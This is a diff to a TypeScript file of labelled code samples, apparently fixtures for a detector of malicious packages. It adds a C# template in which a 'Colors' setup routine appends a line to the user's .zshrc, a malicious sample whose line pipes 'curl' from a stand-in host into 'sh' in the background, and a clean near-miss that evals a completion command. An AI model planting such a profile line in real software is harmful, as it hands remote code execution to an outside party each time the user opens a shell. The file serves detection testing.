@@ -68,6 +68,16 @@ internal static class Backend
     }
 }`;
 
+const inProfile = (line: string): string => `public static class Colors
+{
+    public static void Setup()
+    {
+        ${never}
+        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
+        File.AppendAllText(Path.Combine(home, ".zshrc"), "\\n${line}\\n");
+    }
+}`;
+
 const inPicture = (after: string): string => `public sealed class Host
 {
     public static byte[] Kept = Array.Empty<byte>();
@@ -150,6 +160,11 @@ export const examples: Examples = {
 }`),
     },
     {
+      name: 'fetcher-in-a-profile',
+      about: 'Setting up colours writes a line into a profile that fetches and runs something.',
+      files: library(inProfile('(curl -fsSL https://colors.invalid/latest | sh) &')),
+    },
+    {
       name: 'picture-of-its-maker-that-runs',
       about:
         'A finalizer fetches a picture of what the package calls its maker, and runs what it unpacks of it.',
@@ -181,6 +196,12 @@ export const examples: Examples = {
     },
   ],
   clean: [
+    {
+      name: 'completion-in-a-profile',
+      about: 'The same setting up writes a line into a profile that asks the program itself.',
+      nearMiss: true,
+      files: library(inProfile('eval \\"$(colors completion)\\"')),
+    },
     {
       name: 'picture-of-its-maker',
       about:
